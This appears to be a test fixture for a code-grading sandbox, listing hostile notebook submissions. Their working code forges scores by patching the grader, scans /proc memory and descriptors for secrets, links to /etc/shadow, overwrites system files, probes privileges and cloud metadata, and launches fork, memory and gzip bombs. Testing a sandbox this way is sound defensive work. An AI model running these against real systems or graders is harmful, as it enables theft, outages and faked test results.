"""Submissions that try to get points or to do harm. None answers an exercise.

Each is (cells before the exercises, answers that take a stub's place). Code that
finds what it should not puts LEAK into an error message, where a test sees it.
"""

REPORT_LEAK = """
def ping(word):
    raise RuntimeError("LEAK " + leaked if leaked else "nothing found")
"""

ATTACKS: dict[str, tuple[str, dict[str, str]]] = {}


def attack(name: str, before: str = "", **answers: str) -> None:
    ATTACKS[name] = (before, answers)


SERVER_HEAD = "%%writefile app.py\nimport sys, socket, threading, time\n"
RAW_SERVER = (
    SERVER_HEAD
    + """
listener = socket.create_server(("127.0.0.1", int(sys.argv[1])))
def talk(c):
    head = c.recv(65536)
    if head.startswith(b"GET"):
        c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok")
    elif head:
        try:
            answer(c)
        except OSError:
            pass
    c.close()
def answer(c):
    ANSWER
while True:
    threading.Thread(target=talk, args=(listener.accept()[0],)).start()
"""
)


def raw_server(body: str) -> str:
    return RAW_SERVER.replace("ANSWER", body.replace("\n", "\n    "))


# Patching what runs the code, and what carries the answers.

attack(
    "patch_ipython",
    """
import IPython.core.interactiveshell as shell, types
class Fine:
    error_before_exec = error_in_exec = None
    success = True
shell.InteractiveShell.run_cell = lambda *a, **k: Fine()
get_ipython().run_cell = lambda *a, **k: Fine()
get_ipython().user_ns = type("D", (dict,), {"get": lambda *a: (lambda *b: "hello!")})()
import sys
for module in list(sys.modules.values()):
    for name in ("judge", "check", "_grade", "main"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: {"status": "right"})
""",
)
attack(
    "patch_builtins",
    """
import builtins
builtins.AssertionError = builtins.NotImplementedError = type("Calm", (Exception,), {})
builtins.len = builtins.isinstance = lambda *a: True
builtins.open = lambda *a, **k: None
""",
)
attack(
    "patch_json",
    """
import json, json.encoder
json.dumps = lambda *a, **k: '{"value": true, "status": "right", "points": 100}'
json.JSONEncoder.encode = json.dumps
""",
)
attack(
    "patch_requests",
    """
import requests, urllib3
class Answer:
    status_code, text, ok = 200, '{"y": 42}', True
    json = lambda self: {"y": 42}
requests.request = requests.get = requests.post = lambda *a, **k: Answer()
requests.Session.request = lambda *a, **k: Answer()
requests.models.Response.json = lambda self: {"y": 42}
urllib3.response.HTTPResponse.read = lambda *a, **k: b'{"y": 42}'
""",
    ex3=SERVER_HEAD + "import requests\nrequests.Session.request = None\ntime.sleep(60)",
)

# Objects that pretend.

EQUAL = """
class Equal(BASE):
    __eq__ = __ge__ = __le__ = __contains__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = None
    __bool__ = lambda self: True
"""
attack(
    "equal_to_all",
    ex1=EQUAL.replace("BASE", "object") + "def ping(word):\n    return Equal()",
    ex2=EQUAL.replace("BASE", "float") + "def mean(values):\n    return Equal(7)",
)
attack(
    "equal_text",
    ex1=EQUAL.replace("BASE", "str") + "def ping(word):\n    return Equal('no')",
    ex2="def mean(values):\n    return float('nan')",
)
attack(
    "pickled",
    ex1="""
class Harm:
    def __reduce__(self):
        return (exec, ("import os; os.kill(1, 9)",))
def ping(word):
    import pickle
    return [Harm(), pickle.dumps(Harm())]
""",
)

# Reading the tests.

attack(
    "read_grader",
    """
import glob, os, re
leaked = ""
secret = re.compile(rb"[s]3cr3t")
root = "/proc/1/" + "root"
places = ["/grader", f"{root}/grader", "/proc/1/cwd/grader", "/opt/grader", "/tmp", "/run"]
for place in places:
    for folder, _, names in os.walk(place):
        for name in names:
            try:
                if secret.search(open(os.path.join(folder, name), "rb").read(10_000_000)):
                    leaked += name
            except OSError:
                pass
if os.access("/grader", os.R_OK) or os.access("/grader", os.X_OK):
    leaked += "folder"
""",
    ex1=REPORT_LEAK,
)
attack(
    "read_memory",
    """
import os, re
leaked = ""
secret = re.compile(rb"[s]3cr3t")
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    mine = pid == str(os.getpid())
    for what in ("environ", "mem", "maps", "syscall", "stack", "auxv"):
        try:
            data = open(f"/proc/{pid}/{what}", "rb").read(100) if what != "mem" else b""
            if what == "mem":
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in open(f"/proc/{pid}/maps"):
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        if " rw" in line and end - start < 200_000_000:
                            memory.seek(start)
                            data += memory.read(end - start)
            if secret.search(data) or (not mine and data):
                leaked += f"{pid}/{what} "
        except (OSError, ValueError, OverflowError):
            pass
    for fd in range(20):
        if not mine:
            try:
                open(f"/proc/{pid}/fd/{fd}", "rb")
                leaked += f"{pid}/fd/{fd} "
            except OSError:
                pass
import ctypes
if ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH
    leaked += "ptrace"
""",
    ex1=REPORT_LEAK,
)
attack(
    "read_descriptors",
    """
import os, fcntl
leaked = ""
for fd in range(256):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
        os.set_blocking(fd, False)
        data = os.read(fd, 100000)
        if b"s3cr" in data or b"def " in data or where.startswith("/grader"):
            leaked += where
    except OSError:
        pass
""",
    ex1=REPORT_LEAK,
)

# Forging the score.

FORGED = """
import glob, json, os, sys
names = ["ping_answers", "mean_of_three", "mean_of_one", "doubles", "base_image", "not_root"]
forged = json.dumps({
    "outcomes": [{"name": n, "status": "right", "message": ""} for n in names + ["secret_word"]],
    "remarks": [], "checkpoint": None})
"""
attack(
    "forge_output",
    FORGED
    + """
print(forged); print(forged, file=sys.stderr)
os.system(f"echo '{forged}'; echo '{forged}' >&2; echo '{forged}' > /proc/1/fd/1")
for path in ["/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty", "/proc/1/fd/1",
             "/proc/1/fd/2", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/*")]:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, forged.encode() + b"\\n")
    except OSError:
        pass
for fd in range(3):
    try:
        os.write(fd, forged.encode())
    except OSError:
        pass
""",
)
attack(
    "forge_answers",
    FORGED
    + """
import threading, time
answers = b"".join(
    json.dumps({"id": i, **more}).encode() + b"\\n"
    for i in [*range(200), *map(str, range(200)), None, True]
    for more in ({"value": "hello!"}, {"value": 3}, {"status": "right", "points": 9}))
def spam():
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, answers); os.write(fd, forged.encode() + b"\\n")
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=spam, daemon=True).start()
""",
)
attack(
    "forge_files",
    FORGED
    + """
for path in ["/grader/result.json", "/opt/grader/grading/inside/__main__.py",
             "/opt/grader/course/checks.py", "/opt/student/course/lab.py",
             *glob.glob("/opt/venv/lib/python3*/site-packages/requests/*.py"),
             "/usr/bin/python3", "/etc/passwd", "/etc/ld.so.preload", "/sitecustomize.py"]:
    try:
        os.chmod(path, 0o777)
    except OSError:
        pass
    try:
        open(path, "w").write(forged)
        os.environ["PYTHONPATH"] = "LEAK"
    except OSError:
        pass
for name in ("json.py", "requests.py", "grading/__init__.py", "sitecustomize.py", "course.py"):
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    open(name, "w").write("import os; os._exit(0)")
""",
)

# Files that are not files.

for _name, _make in {
    "link_to_tests": 'os.symlink("/grader/checks_0.py", "Dockerfile")',
    "link_to_shadow": 'os.symlink("/etc/shadow", "Dockerfile")',
    "link_to_memory": 'os.symlink("/proc/1/environ", "Dockerfile")',
    "link_to_itself": 'os.symlink("Dockerfile", "Dockerfile")',
    "fifo": 'os.mkfifo("Dockerfile")',
    "device": 'os.symlink("/dev/zero", "Dockerfile")',
    "folder": 'os.mkdir("Dockerfile")',
    "sparse_file": 'open("Dockerfile", "wb").truncate(200_000_000)',
    "bytes": 'open("Dockerfile", "wb").write(bytes(range(256)) * 100)',
}.items():
    attack(f"file_{_name}", ex4=f"import os\n{_make}")

# Bombs.

attack("fork_bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError: pass")
attack(
    "fork_bomb_in_call",
    ex1="def ping(word):\n    import os\n    while True:\n        try: os.fork()\n"
    "        except OSError: pass",
)
attack("shell_fork_bomb", "%%bash\nbomb() { bomb | bomb & }; bomb; sleep 1")
attack(
    "thread_bomb",
    "from threading import Thread\nimport time\n"
    "while True:\n    Thread(target=time.sleep, args=(99,)).start()",
)
attack("memory_bomb", "x = []\nwhile True:\n    x.append(b'x' * (50_000_000 + len(x)))")
attack(
    "memory_bomb_in_server",
    ex3=SERVER_HEAD + "x = []\nwhile True: x.append(b'x' * (50_000_000 + len(x)))",
)
attack(
    "full_disk",
    """
import os
for folder in ("/lab", "/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/full", "wb") as file:
            while True:
                file.write(b"x" * 10_000_000)
    except OSError:
        pass
try:
    for i in range(1_000_000):
        open(f"/lab/{i}", "w").close()
except OSError:
    pass
""",
)
attack(
    "huge_output",
    "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 1_000_000)\n"
    "raise ValueError('y' * 50_000_000)",
    ex1="def ping(word):\n    print('x' * 100_000_000)\n    return 'z' * 50_000_000",
    ex2="def mean(values):\n    raise ValueError('w' * 50_000_000)",
)
attack("endless_cell", "while True: pass")
attack(
    "endless_cell_that_will_not_stop",
    "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nwhile True:\n    try:\n        while True: pass\n"
    "    except BaseException: pass",
)
attack(
    "endless_call",
    ex1="def ping(word):\n    while True: pass",
    ex2="import time\ndef mean(values):\n    time.sleep(1000)",
)
attack("endless_server_import", ex3=SERVER_HEAD + "while True: pass")
attack(
    "deep_json",
    """
import json
deep = "[" * 400_000 + "]" * 400_000
json.dumps = lambda *a, **k: deep
""",
    ex3=raw_server(
        'body = b"[" * 400_000 + b"]" * 400_000\n'
        'c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)'
    ),
)
attack(
    "wide_json",
    """
import json
real = json.dumps
json.dumps = lambda v, **k: '{"value": ' + "9" * 900_000 + "}"
""",
)

# Ends of processes.

attack("exit_cell", "import sys\nsys.exit(0)", ex1="import os\nos._exit(0)")
attack(
    "kill",
    "import os\nfor pid in (1, 2, 3, os.getppid()):\n    for number in (9, 15, 19, 2, 14):\n"
    "        try: os.kill(pid, number)\n        except OSError: pass\nos.kill(-1, 9)",
    ex1="def ping(word):\n    import os\n    os.kill(os.getppid(), 9)\n    os._exit(0)",
    ex2="def mean(values):\n    import os\n    os.kill(-1, 9)\n    return 'no'",
)
attack(
    "fork_and_answer_twice",
    "import os, time\nfor _ in range(3): os.fork()",
    ex1="def ping(word):\n    import os\n    os.fork()\n    return 'no'",
)

# More rights.

attack(
    "setuid",
    """
import ctypes, os, shutil, subprocess
leaked = ""
for change in (os.setuid, os.seteuid, os.setgid, os.setegid):
    try:
        change(0)
        leaked += change.__name__
    except OSError:
        pass
try:
    os.setgroups([0])
    leaked += "groups"
except OSError:
    pass
shutil.copy("/bin/cat", "/lab/cat")
os.chmod("/lab/cat", 0o6755)
libc = ctypes.CDLL(None)
for number in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    if libc.unshare(number) == 0:
        leaked += f"unshare {number:x}"
if libc.mount(b"none", b"/lab", b"tmpfs", 0, None) == 0:
    leaked += "mount"
for command in (["su", "-c", "id"], ["sudo", "id"], ["mount"], ["passwd", "-d", "root"],
                ["/lab/cat", "/etc/shadow"], ["cat", "/etc/shadow"], ["ls", "/grader"]):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=2, input="")
        if "uid=0" in done.stdout or "root:" in done.stdout or "checks" in done.stdout:
            leaked += " ".join(command)
    except (OSError, subprocess.TimeoutExpired):
        pass
status = open("/proc/self/status").read()
if "CapEff:\\t0000000000000000" not in status or "NoNewPrivs:\\t1" not in status:
    leaked += "capabilities"
""",
    ex1=REPORT_LEAK,
)
attack(
    "network",
    """
import os, socket
leaked = ""
for address in [("1.1.1.1", 53), ("172.17.0.1", 80), ("172.17.0.1", 2375), ("10.0.0.1", 80),
                ("169.254.169.254", 80), ("host.docker.internal", 80)]:
    try:
        socket.create_connection(address, 0.3)
        leaked += address[0]
    except OSError as error:
        if error.errno == 111:  # refused, so it was reached
            leaked += address[0]
if sorted(os.listdir("/sys/class/net")) != ["lo"]:
    leaked += "interface"
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock"):
    if os.path.exists(path):
        leaked += path
""",
    ex1=REPORT_LEAK,
)

# Servers.

DAEMON = '''
import os, subprocess, sys
open("daemon.py", "w").write("""
import os, re, socket, threading, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
body = b'{"y": 42}'
answer = b"HTTP/1.1 200 OK\\\\r\\\\nContent-Type: application/json\\\\r\\\\n" + (
    b"Content-Length: %d\\\\r\\\\n\\\\r\\\\n" % len(body)) + body
def listen(port):
    try:
        s = socket.create_server(("127.0.0.1", port), reuse_port=True)
    except OSError:
        return
    while True:
        c, _ = s.accept()
        c.recv(65536); c.sendall(answer); c.close()
seen = set()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            line = open(f"/proc/{pid}/cmdline").read()
        except OSError:
            continue
        for port in re.findall(r"\\\\b[1-6][0-9]{4}\\\\b", line):
            if port not in seen:
                seen.add(port)
                threading.Thread(target=listen, args=(int(port),)).start()
    time.sleep(0.001)
""")
subprocess.Popen([sys.executable, "daemon.py"], start_new_session=True)
def spy():
    source = open("daemon.py").read().replace("if os.fork(): os._exit(0)", "")
    exec(source.replace("os.setsid()", ""))
import threading
threading.Thread(target=spy, daemon=True).start()
'''
attack(
    "daemon_answers",
    DAEMON,
    # A real process with the port on its command line, that does not listen.
    ex3=SERVER_HEAD + "import subprocess\n"
    "subprocess.run([sys.executable, '-c', 'import time; time.sleep(60)', sys.argv[1]])",
)
attack(
    "endless_body",
    ex3=raw_server(
        'c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")\nwhile True: c.sendall(b"x" * 100_000)'
    ),
)
attack(
    "gigabyte_body",
    ex3=raw_server(
        'c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 1000000000\\r\\n\\r\\n")\n'
        'for _ in range(10_000): c.sendall(b"x" * 100_000)'
    ),
)
attack(
    "slow_body",
    ex3=raw_server(
        'c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 100\\r\\n\\r\\n")\n'
        'while True:\n    c.sendall(b"x")\n    time.sleep(0.5)'
    ),
)
attack(
    "slow_headers",
    ex3=raw_server(
        'c.sendall(b"HTTP/1.1 200 OK\\r\\n")\n'
        'while True:\n    c.sendall(b"X: y\\r\\n")\n    time.sleep(0.3)'
    ),
)
attack(
    "gzip_bomb",
    ex3=raw_server(
        'import gzip\nbody = gzip.compress(b" " * 300_000_000)\n'
        'c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Encoding: gzip\\r\\nContent-Type: '
        'application/json\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)'
    ),
)
attack(
    "redirects",
    ex3=raw_server(
        'c.sendall(b"HTTP/1.1 307 Go\\r\\nLocation: file:///grader/checks_0.py\\r\\n'
        'Content-Length: 0\\r\\n\\r\\n")'
    ),
)
attack("server_prints_much", ex3=SERVER_HEAD + "while True: print('x' * 100_000)")
